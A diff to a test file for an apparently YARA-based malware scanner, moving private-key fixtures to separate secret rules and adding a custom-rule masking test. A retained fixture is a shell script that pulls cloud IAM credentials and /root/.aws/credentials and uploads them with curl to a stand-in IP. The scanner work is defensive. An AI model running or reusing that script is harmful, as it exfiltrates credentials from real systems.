@@ -26,7 +26,8 @@ from explorer.errors import ExplorerError
 from explorer.findings import CATEGORIES, SEVERITIES, at_least
 from explorer.model import EntryKind, FileEntry
 
-FAMILIES = ("miners", "reverse_shells", "webshells", "rootkits", "credentials", "packers", "persistence")
+FAMILIES = ("miners", "reverse_shells", "webshells", "rootkits", "packers", "persistence")
+"""Private keys and other credentials belong to the secret rules (explorer/detectors/secret_rules.py)."""
 
 
 def J(*parts: str) -> bytes:
@@ -142,20 +143,6 @@ POSITIVES: list[tuple[str, str, bytes]] = [
     ("backdoor.cloud-credential-theft", "/tmp/grab.sh",
      J("#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/iam/", "security-credentials/ > /tmp/c\n",
        "cat /root/.aws/", "credentials >> /tmp/c\ncurl -F 'f=@/tmp/c' http://203.0.113.9/up\n")),
-    ("secret.private-key-pem", "/srv/app/key.pem", J("-----BEGIN RSA PRIVATE", " KEY-----\n", b64_lines(600, 1),
-                                                     "-----END RSA PRIVATE KEY-----\n")),
-    ("secret.private-key-in-binary", "/usr/local/bin/app",
-     binary_blob(J("-----BEGIN RSA PRIVATE", " KEY-----\n", b64_lines(600, 11), "-----END RSA PRIVATE KEY-----\n"))),
-    ("secret.private-key-encrypted", "/srv/app/enc.pem", J("-----BEGIN ENCRYPTED PRIVATE", " KEY-----\n",
-                                                           b64_lines(600, 2), "-----END ENCRYPTED PRIVATE KEY-----\n")),
-    ("secret.private-key-openssh", "/root/.ssh/id_ed25519", J("-----BEGIN OPENSSH PRIVATE", " KEY-----\n",
-                                                              "b3BlbnNzaC1rZXktdjE", b64_lines(300, 3, 70)[19:],
-                                                              "-----END OPENSSH PRIVATE KEY-----\n")),
-    ("secret.private-key-putty", "/home/u/id.ppk", J("PuTTY-User-Key-File-2: ssh-rsa\nEncryption: none\n",
-                                                     "Comment: k\nPublic-Lines: 2\n", b64_lines(90, 4),
-                                                     "Private-Lines: 8\n", b64_lines(400, 5), "Private-MAC: ab\n")),
-    ("secret.pgp-private-key", "/root/.gnupg/k.asc", J("-----BEGIN PGP PRIVATE KEY", " BLOCK-----\n\n",
-                                                       b64_lines(400, 6), "-----END PGP PRIVATE KEY BLOCK-----\n")),
     ("suspicious.upx-packed-elf", "/usr/local/bin/tool",
      b"\x7fELF\x02\x01\x01" + bytes(0xe0) + b"UPX!" + bytes(64) + random.Random(8).randbytes(5000)
      + J("$Info: This file is packed with the UPX", " executable packer http://upx.sf.net $\n") + b"UPX!" + bytes(8)),
@@ -222,26 +209,41 @@ def test_evidence_escapes_control_characters(detector):
     assert "\x1b" not in m.evidence and "\\x1b" in m.evidence and "\\t" in m.evidence
 
 
-def test_key_inside_a_compiled_file_is_low_not_high(detector):
-    found = {m.rule_id: m for m in scan(detector, POSITIVES_BY_ID["secret.private-key-in-binary"], "/usr/bin/x")}
-    assert set(found) == {"secret.private-key-in-binary"} and found["secret.private-key-in-binary"].severity == "low"
+CUSTOM_SECRET_RULE = """
+rule custom_key {
+    meta:
+        id = "secret.custom-key"
+        category = "secret"
+        severity = "high"
+        description = "A user rule for key material"
+    strings:
+        $a = "-----BEGIN TEST CUSTOM KEY-----"
+    condition:
+        $a
+}
+"""
+CUSTOM_KEY = J("-----BEGIN TEST CUSTOM", " KEY-----\n", b64_lines(300, 3))
 
 
-def test_secret_evidence_is_masked_after_six_characters(detector):
-    (m,) = [m for m in scan(detector, POSITIVES_BY_ID["secret.private-key-pem"], "/srv/app/key.pem")
-            if m.rule_id == "secret.private-key-pem"]
+@pytest.fixture
+def custom_secret_detector(tmp_path):
+    (tmp_path / "custom.yar").write_text(CUSTOM_SECRET_RULE)
+    return YaraDetector(ScanOptions(extra_rule_dirs=(str(tmp_path),)))
+
+
+def test_secret_evidence_of_a_user_rule_is_masked_after_six_characters(custom_secret_detector):
+    (m,) = [m for m in scan(custom_secret_detector, CUSTOM_KEY, "/srv/app/key.pem") if m.rule_id == "secret.custom-key"]
     assert m.evidence[:6] == "-----B" and set(m.evidence[6:]) == {"*"}
     assert m.severity == "high" and m.reason == ""
 
 
 @pytest.mark.parametrize("path,reason", [
-    ("/usr/lib/python3.11/test/certdata/keycert.pem", "test-fixture path"),
-    ("/usr/share/doc/libxmlsec1-dev/examples/rsakey.pem", "documentation or example path"),
-    ("/usr/local/lib/python3.11/site-packages/moto/moto_proxy/ca.key", "inside an installed third-party package"),
+    ("/usr/lib/python3.11/test/certdata/keycert.pem", "test fixture path"),
+    ("/usr/share/doc/libxmlsec1-dev/examples/rsakey.pem", "documentation path"),
+    ("/usr/local/lib/python3.11/site-packages/moto/moto_proxy/ca.key", "bundled in an installed package"),
 ])
-def test_published_keys_are_low_with_a_reason(detector, path, reason):
-    (m,) = [m for m in scan(detector, POSITIVES_BY_ID["secret.private-key-pem"], path)
-            if m.rule_id == "secret.private-key-pem"]
+def test_published_secrets_of_user_rules_are_low_with_a_reason(custom_secret_detector, path, reason):
+    (m,) = [m for m in scan(custom_secret_detector, CUSTOM_KEY, path) if m.rule_id == "secret.custom-key"]
     assert m.severity == "low" and m.reason.startswith(reason)
 
 
